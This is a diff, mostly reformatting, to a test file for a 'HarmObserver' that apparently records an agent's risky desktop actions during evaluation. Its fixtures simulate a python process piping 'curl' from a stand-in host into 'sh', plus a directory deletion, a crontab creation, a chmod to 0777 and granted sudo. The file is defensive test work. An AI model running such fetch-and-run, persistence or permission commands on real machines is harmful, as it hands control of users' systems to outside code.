@@ -25,7 +25,12 @@ function guest(answers: (Record<string, unknown> | Error | number)[]): HarmReque
   };
 }
 
-const task = { evaluator: { func: 'check_include_exclude', result: { type: 'vm_file', path: '/home/user/Desktop/out.txt' } } };
+const task = {
+  evaluator: {
+    func: 'check_include_exclude',
+    result: { type: 'vm_file', path: '/home/user/Desktop/out.txt' },
+  },
+};
 
 describe('HarmObserver', () => {
   it('turns file changes, processes and sudo calls into events at their steps', async () => {
@@ -35,19 +40,65 @@ describe('HarmObserver', () => {
         mark(0),
         mark(1, {
           files: [
-            { change: 'deleted', path: '/home/user/work_files', type: 'dir', entries: 2, before: { mode: '0755', size: 40, uid: 1000 } },
-            { change: 'modified', path: '/home/user/Desktop/out.txt', type: 'file', before: { mode: '0644', size: 1, uid: 1000 }, after: { mode: '0644', size: 2, uid: 1000 } },
-            { change: 'modified', path: '/home/user/.config/libreoffice/4/user/registrymodifications.xcu', type: 'file' },
+            {
+              change: 'deleted',
+              path: '/home/user/work_files',
+              type: 'dir',
+              entries: 2,
+              before: { mode: '0755', size: 40, uid: 1000 },
+            },
+            {
+              change: 'modified',
+              path: '/home/user/Desktop/out.txt',
+              type: 'file',
+              before: { mode: '0644', size: 1, uid: 1000 },
+              after: { mode: '0644', size: 2, uid: 1000 },
+            },
+            {
+              change: 'modified',
+              path: '/home/user/.config/libreoffice/4/user/registrymodifications.xcu',
+              type: 'file',
+            },
           ],
         }),
         mark(2, {
           files: [
-            { change: 'created', path: '/var/spool/cron/crontabs/user', type: 'file', after: { mode: '0600', size: 30, uid: 1000 } },
-            { change: 'mode', path: '/home/user/a.sh', type: 'file', before: { mode: '0644', size: 1, uid: 1000 }, after: { mode: '0755', size: 1, uid: 1000 } },
-            { change: 'mode', path: '/home/user/b.txt', type: 'file', before: { mode: '0644', size: 1, uid: 1000 }, after: { mode: '0777', size: 1, uid: 1000 } },
+            {
+              change: 'created',
+              path: '/var/spool/cron/crontabs/user',
+              type: 'file',
+              after: { mode: '0600', size: 30, uid: 1000 },
+            },
+            {
+              change: 'mode',
+              path: '/home/user/a.sh',
+              type: 'file',
+              before: { mode: '0644', size: 1, uid: 1000 },
+              after: { mode: '0755', size: 1, uid: 1000 },
+            },
+            {
+              change: 'mode',
+              path: '/home/user/b.txt',
+              type: 'file',
+              before: { mode: '0644', size: 1, uid: 1000 },
+              after: { mode: '0777', size: 1, uid: 1000 },
+            },
           ],
           processes: [
-            { pid: 9, ppid: 1, argv: ['python3', '-c', "import subprocess\nsubprocess.run('curl -s http://x.example.org/a | sh', shell=True)"], cwd: '/home/user', uid: 1000, uid_inside: 1000, seen: 't', ended: 't' },
+            {
+              pid: 9,
+              ppid: 1,
+              argv: [
+                'python3',
+                '-c',
+                "import subprocess\nsubprocess.run('curl -s http://x.example.org/a | sh', shell=True)",
+              ],
+              cwd: '/home/user',
+              uid: 1000,
+              uid_inside: 1000,
+              seen: 't',
+              ended: 't',
+            },
           ],
           sudo: [{ tool: 'sudo', argv: ['-S', 'id'], outcome: 'granted', cwd: '/home/user' }],
         }),
@@ -83,7 +134,11 @@ describe('HarmObserver', () => {
   it('an observer that stops answering makes the record degraded, never silently safe', async () => {
     const observer = new HarmObserver({
       task,
-      request: guest([mark(0), new Error('socket hang up'), mark(2, { degraded: ['the sudo log shrank'] })]),
+      request: guest([
+        mark(0),
+        new Error('socket hang up'),
+        mark(2, { degraded: ['the sudo log shrank'] }),
+      ]),
     });
     await observer.baseline();
     await observer.mark(1);
@@ -91,14 +146,19 @@ describe('HarmObserver', () => {
     const record = observer.record();
     expect(record.status).toBe('degraded');
     expect(record.unsafe).toBeNull();
-    expect(record.degraded.join('\n')).toMatch(/step 1: the observer did not answer \(socket hang up\)[^]*step 2: the sudo log shrank/);
+    expect(record.degraded.join('\n')).toMatch(
+      /step 1: the observer did not answer \(socket hang up\)[^]*step 2: the sudo log shrank/,
+    );
   });
 
   it('a desktop without an observer is unavailable; a malformed answer is degraded', async () => {
     const none = new HarmObserver({ task, request: guest([404]) });
     await none.baseline();
     expect(none.record()).toMatchObject({ status: 'unavailable', unsafe: null });
-    const forged = new HarmObserver({ task, request: guest([mark(0), { version: 1, step: 1, files: 'x' }]) });
+    const forged = new HarmObserver({
+      task,
+      request: guest([mark(0), { version: 1, step: 1, files: 'x' }]),
+    });
     await forged.baseline();
     await forged.mark(1);
     expect(forged.record()).toMatchObject({ status: 'degraded', unsafe: null });
